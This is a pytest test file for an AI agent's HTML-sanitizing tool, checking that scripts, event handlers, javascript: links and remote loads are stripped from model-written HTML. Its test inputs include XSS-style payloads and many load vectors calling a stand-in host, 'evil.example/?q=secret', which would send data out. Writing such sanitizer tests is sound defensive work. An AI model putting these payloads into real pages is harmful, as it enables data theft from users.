"""Every tool keeps the contract, and HTML that a model writes is shown as far as Workspace does."""

import asyncio
from inspect import getdoc
import json
from typing import Any
from uuid import UUID

import pytest

from copilot_admin.agent.tools.html import MAX_CHARACTERS, clean_html
from copilot_admin.agent.tools.registry import find_tools, tool_names
from copilot_admin.agent.tools.tool import Tool, ToolContext, ToolMistake, ToolResult, repeatable
from copilot_admin.agent.values.model_call import ToolCall
from protocol.events import MessageArtifact
from tests.agent.answer_requests import make_spec
from tests.agent.client_functions.samples import answer, made_call, tools_of
from tests.agent.scripted import call, text

TABLE = '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>'


@pytest.mark.parametrize(
    ("html", "clean"),
    [
        ("<b>x</b><script>alert(1)</script>", "<b>x</b>"),
        ("<style>p{color:red}</style><p>x</p>", "<p>x</p>"),
        ("<iframe src='https://a'></iframe><form><input></form>x", "x"),
        ('<p onclick="x()" style="color:red">x</p>', '<p style="color:red">x</p>'),
        ('<p style="background-image:url(https://a);color:red">x</p>', '<p style="color:red">x</p>'),
        ('<a href="javascript:x()">x</a>', '<a rel="noopener noreferrer">x</a>'),
        ('<a href="data:text/html,x">x</a>', '<a rel="noopener noreferrer">x</a>'),
        ('<a href=" DA\tTA:text/html,x">x</a>', '<a rel="noopener noreferrer">x</a>'),
        ('<a href="https://a/x">x</a>', '<a href="https://a/x" rel="noopener noreferrer">x</a>'),
        ('<p class="fixed inset-0 z-50" title="x">x</p>', '<p title="x">x</p>'),
        ('<noscript><img src="https://a"></noscript>', '&lt;img src="https://a"&gt;'),
        *((one, one) for one in (TABLE, "<section><h1>x</h1></section>")),
    ],
)  # fmt: skip
def test_nothing_stays_that_runs_asks_or_calls_home(html, clean):
    assert clean_html(html) == clean


PIXEL = "data:image/png;base64,iVBORw0KGgo="
HOSTILE = "https://evil.example/?q=secret"
ALLOWED = ("https://charts.example.com", "https://pictures.example:8443")


@pytest.mark.parametrize(
    "url",
    [
        *(HOSTILE, "//evil.example/x.png", "\\\\evil.example/x.png", "/x.png", "data:text/html,x"),
        *(" \thttps://evil.example/x.png", "https://charts.example.com.evil.example/x"),
        *("https://charts.example.com@evil.example/x", "https://charts.example.com:444/x"),
        *("https://evil.example\\@charts.example.com/x", "http://charts.example.com/x"),
    ],
)
def test_an_image_from_elsewhere_is_not_loaded(url):
    assert clean_html(f'<img src="{url}">', sources=ALLOWED) == "<img>"


@pytest.mark.parametrize(
    "html",
    [
        f'<img srcset="{HOSTILE} 2x" loading="lazy" lowsrc="{HOSTILE}" style="content: url({HOSTILE})">',
        f'<video src="{HOSTILE}" poster="{HOSTILE}" autoplay></video><audio src="{HOSTILE}"></audio>',
        f'<link rel="stylesheet" href="{HOSTILE}"><link rel="prefetch" href="{HOSTILE}">',
        f'<meta http-equiv="refresh" content="0; url={HOSTILE}">',
        f'<iframe src="{HOSTILE}"></iframe><frameset><frame src="{HOSTILE}"></frameset>',
        f'<svg><image href="{HOSTILE}"/><use xlink:href="{HOSTILE}"/><feImage href="{HOSTILE}"/></svg>',
        f'<form action="{HOSTILE}"><input type="image" src="{HOSTILE}"><button formaction="{HOSTILE}">',
        f'<body background="{HOSTILE}"><table background="{HOSTILE}"><tr><td background="{HOSTILE}">',
        f'<p style="background: url({HOSTILE})">',
        f'<p style="background-image: image-set(url({HOSTILE}) 1x)">',
        f'<p style="list-style: url({HOSTILE})"><p style="cursor: url({HOSTILE}), auto">',
        f'<!--[if true]><img src="{HOSTILE}"><![endif]--><xml src="{HOSTILE}"></xml>',
    ],
)
def test_nothing_loads_by_itself(html):
    assert "evil.example" not in clean_html(html, sources=ALLOWED)


@pytest.mark.parametrize(
    "address", [PIXEL, "https://charts.example.com/x?y=1", "https://pictures.example:8443/a/../b"]
)
def test_an_image_in_itself_or_from_where_the_builder_allows_is_shown(address):
    assert clean_html(f'<img src="{address}">', sources=ALLOWED) == f'<img src="{address}">'


CARD = (
    '<div style="background: linear-gradient(135deg, #667eea 0%, rgba(9, 9, 9, 0.2) 100%); '
    "font-family: system-ui, 'Segoe UI', sans-serif; flex-shrink: 0; "
    "grid-template-columns: repeat(2, minmax(0, 1fr));\"><b>$5</b> today's</div>"
)


def test_a_card_comes_out_exactly_as_it_was_written():
    assert clean_html(CARD) == CARD


@pytest.mark.parametrize(
    "declaration",
    [
        *("background: url(https://example.org/x)", "background-image: image-set('x' 1x)"),
        *("background: \\75rl(x)", "background: u/**/rl(x)", "position: fixed"),
        *("color: 'red", "behavior: x", "color: 'a;b'", "color: red /*", "colo\\72: red"),
        *("@import 'x'", "p { color: red }", "color: 'red; background: url(https://example.org/x)"),
        "background: linear-gradient(red, url(https://example.org/x))",
    ],
)
def test_a_style_that_loads_or_covers_something_is_taken_out_alone(declaration):
    assert clean_html(f"<p style='{declaration.replace(chr(39), '&#39;')}'>x</p>") == "<p>x</p>"
    kept = clean_html(f'<p style="color: red; {declaration}">x</p>')
    assert kept == '<p style="color: red">x</p>'


def artifact(html, **spec):
    """Return the content of the artifact of the tool, or the sentence for the model."""
    made = call("html", name="Card", description="Figures.", html=html)
    outputs, calls = answer(None, made, text("."), spec=make_spec(tools=("html",), **spec))
    shown = [one.content for one in outputs if isinstance(one, MessageArtifact)]
    return shown[0] if shown else calls[1].messages[-1].text


def widget(html, **spec):
    """Return the content of a new widget of HTML, or the sentence for the model."""
    tool = tools_of(**spec)["add_generative_widget"]
    made = made_call(tool, {"widget_type": "html", "name": "H", "data": html})
    try:
        return tool.arguments(made)["data"]
    except ToolMistake as mistake:
        return mistake.public


def boxed(html):
    return f'<div style="height:100%;overflow:auto">{html}</div>'


@pytest.mark.parametrize("show", [artifact, widget])
@pytest.mark.parametrize(
    ("html", "shown"),
    [
        ("<b>1</b><script>x</script>", "<b>1</b>"),
        (f'<img src="{PIXEL}" alt="">', f'<img src="{PIXEL}" alt="">'),
        ('<img src="https://a.example/b.png">', '<img src="https://a.example/b.png">'),
        ('<p style="margin-top: -400px">x</p>', boxed('<p style="margin-top: -400px">x</p>')),
        ('<p style="color: red">x</p></div></section>', boxed('<p style="color: red">x</p>')),
        ("</div></div><b style='line-height: 0'>x", boxed('<b style="line-height: 0">x</b>')),
    ],
)
def test_html_is_shown_clean_and_styled_html_in_a_box(show, html, shown):
    assert show(html, html_sources=("https://a.example",)) == shown


@pytest.mark.parametrize("show", [artifact, widget])
@pytest.mark.parametrize(
    ("html", "sentence"),
    [
        ("<script>x</script>", "scripts, styles, frames, forms and images from elsewhere"),
        ('<img src="https://a.example/b.png" alt="">', "images from elsewhere"),
        ("<div>" * 5001, "Use fewer elements"),
        ("<p>" + "".join(f"<b lang='{n}'>" for n in range(500)) + "<p>x" * 500, "Use fewer"),
        ("<p>" + "<b lang='1'id='2'>" * 500 + "<p>x" * 500, "Use fewer elements"),
        ("x" * (MAX_CHARACTERS + 1), "200000 characters"),
    ],
    ids=["nothing left", "remote image", "nested", "different tags", "odd tags", "long"],
)
def test_html_that_cannot_be_shown_is_explained_to_the_model(show, html, sentence):
    assert sentence in show(html)


CONTEXT = ToolContext(id=UUID(int=0xABCDEF << 104))
PRICES: dict[str, Any] = {
    "name": "Prices",
    "description": "By day.",
    "rows": [{"day": "Mon", "price": 1}],
}
SAMPLES: dict[str, dict[str, Any]] = {
    "chart": {**PRICES, "type": "bar", "x": "day", "y": ["price"]},
    "html": {"name": "Card", "description": "One figure.", "html": "<p>4.5 %</p>"},
    "table": PRICES,
}
every = pytest.mark.parametrize("one", find_tools(tool_names()), ids=tool_names())


def run(name: str, arguments: Any) -> ToolResult:
    (found,) = find_tools((name,))
    call = ToolCall(id="1", name=name, arguments=json.dumps(arguments))
    return asyncio.run(found.run(call, context=CONTEXT))


@every
def test_a_tool_is_described_to_the_model(one: Tool):
    schema: Any = one.schema.parameters
    assert one.schema.description == getdoc(one.function)
    assert set(schema["properties"]) == set(SAMPLES[one.schema.name])
    assert all("description" in row or "enum" in row for row in schema["properties"].values())
    assert not {"$ref", '"title":'} & {*json.dumps(schema).split()}


@every
def test_a_sample_shows_an_artifact_and_needs_its_arguments(one: Tool):
    sample = SAMPLES[one.schema.name]
    result = run(one.schema.name, sample)
    assert result.text
    assert [type(event) for event in result.events] == [MessageArtifact]
    required: Any = one.schema.parameters["required"]
    for missing in required:
        rest = {key: value for key, value in sample.items() if key != missing}
        with pytest.raises(ToolMistake, match=f"Wrong arguments .*{missing}: "):
            run(one.schema.name, rest)


@pytest.mark.parametrize(
    ("name", "arguments", "repeated"),
    [
        ("table", '{"a": 1}', ("table", '{"a": 1}')),
        ("my tool", "[1]", ("my_tool", "{}")),
        ("", "{", ("unknown", "{}")),
        ("x", "[" * 100_000, ("x", "{}")),
    ],
)
def test_odd_calls_are_repeated_in_a_form_that_servers_accept(name, arguments, repeated):
    call = repeatable(ToolCall(id="1", name=name, arguments=arguments))
    assert (call.name, call.arguments) == repeated
